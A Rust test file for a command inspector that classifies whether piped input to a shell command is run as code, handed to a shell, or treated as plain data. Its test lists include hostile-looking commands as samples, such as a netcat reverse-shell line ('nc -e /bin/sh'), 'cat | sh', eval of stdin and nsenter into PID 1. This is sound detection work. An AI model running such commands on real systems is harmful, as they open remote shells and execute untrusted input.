use crate::domain::command::StandardInput;
use crate::inspect::piped;

#[test]
fn input_counts_as_code_unless_a_program_is_known_to_be_given_something_else() {
    for text in [
        "python3 /dev/stdin",
        "python3 -W ignore",
        "python3 -i x.py",
        "python3 -m code",
        "python3 $x",
        "cd /dev && python3 stdin",
        "cd /dev/fd && python3 0",
        "python3 //dev/./stdin",
        "node /dev/stdin",
        "node -r /dev/stdin x.js",
        "psql -f -",
        "psql -c 'select 1' -f -",
        "psql -f /dev/stdin",
        "psql --file=/proc/self/fd/0 db",
        "psql --username -c db",
        "psql -c '\\i /dev/stdin'",
        "mysql -c",
        "mysql -u root db",
        "sqlite3 db",
        "perl -w",
        "perl -c",
        "perl -d -e 1",
        "perl -I lib",
        "ruby /proc/self/fd/0",
        "php -d auto_prepend_file=php://stdin",
        "deno run -",
        "lua -i x.lua",
        "R x",
        "gdb x",
        "ed x",
        "ex x",
        "vim -es",
        "awk -f -",
        "sed -n -f/dev/stdin",
        "sed --file=-",
        "make -f -",
        "tar cf /tmp/x -T -",
        "tar xT - -f x",
        "xargs python3",
        "sftp host",
    ] {
        let reading = piped(text.as_bytes());
        assert!(!reading.input.is_data(), "{text}: {reading:?}");
        assert!(reading.is_opaque(), "{text}");
    }
}

#[test]
fn whatever_may_hand_the_input_to_a_shell_counts_as_a_shell() {
    for text in [
        "bash /dev/fd/0",
        "bash //dev/stdin",
        "cd /dev; bash stdin",
        ". /dev/stdin",
        "source /dev/stdin",
        "source $x",
        "xargs sh -c",
        "xargs -I{} {}",
        "xargs -I{} sh -c '{}'",
        "xargs bash",
        "xargs env",
        "while read x; do eval \"$x\"; done",
        "while read x; do $x; done",
        "read x; sh -c \"$x\"",
        "eval \"$(cat)\"",
        "sh -c 'exec bash'",
        "sh -c \"$(cat)\"",
        "parallel",
        "parallel sh -c",
        "at now",
        "batch",
        "crontab -",
        "sudo tee | sh",
        "cat | sh",
        "tee /tmp/x | bash -s",
        "tee >(sh)",
        "sh <(cat)",
        "bash <<< \"$(cat)\"",
        "bash < <(cat)",
        "bash < /dev/stdin",
        "bash 3<&0 <&3",
        "bash <> /dev/stdin",
        "ssh otherhost",
        "docker exec -i x sh",
        "docker compose exec web sh",
        "kubectl exec -i pod -- sh",
        "lxc-attach -n x",
        "chroot /",
        "chroot /mnt sh",
        "nsenter -t 1 -a",
        "su - user",
        "su",
        "busybox sh",
        "dash",
        "zsh",
        "ksh",
        "doas -s",
        "setsid -w sh",
        "script",
        "find . -maxdepth 0 -exec sh \\;",
        "trap bash EXIT",
        "bash --rcfile x",
        "nc -e /bin/sh host 1",
        "firejail bash",
        "setarch x86_64 bash",
        "if",
    ] {
        let reading = piped(text.as_bytes());
        assert_eq!(reading.input, StandardInput::Commands, "{text}");
        assert!(reading.is_opaque(), "{text}");
    }
}

#[test]
fn input_that_is_known_to_be_data_makes_nothing_opaque() {
    for text in [
        "python3 script.py -",
        "python3 -u -W ignore script.py",
        "python3 -c 'import json, sys; json.load(sys.stdin)' x",
        "perl -pi -e 's/a/b/' file",
        "perl -lane 'print'",
        "ruby -ne 'puts 1'",
        "node -e 'x'",
        "node app.js --flag",
        "psql -h db1 -U app -p 5432 -c 'select 1' db",
        "psql --username=app --file=/srv/x.sql db",
        "mysql -u root -psecret -e 'select 1' db",
        "sqlite3 db 'select 1'",
        "python3 --version",
        "docker ps",
        "docker logs x",
        "kubectl get pods",
        "sed -n 1,5p",
        "sed -f x.sed log",
        "awk '{print $1}'",
        "make -j 4",
        "tar xzf - -C /srv",
        "tar cf - /srv",
        "xargs rm",
        "sort | uniq -c",
        "tee /srv/x 2>/dev/null",
        "sudo tee /etc/motd",
        "ssh otherhost cat",
        "git receive-pack x",
        "while read x; do echo $x; done",
        "ps aux | grep bash",
        "cat > \"$HOME/x\"",
        "zip -@ x",
    ] {
        let reading = piped(text.as_bytes());
        assert!(reading.input.is_data(), "{text}: {reading:?}");
        assert!(!reading.is_opaque(), "{text}: {reading:?}");
    }
}
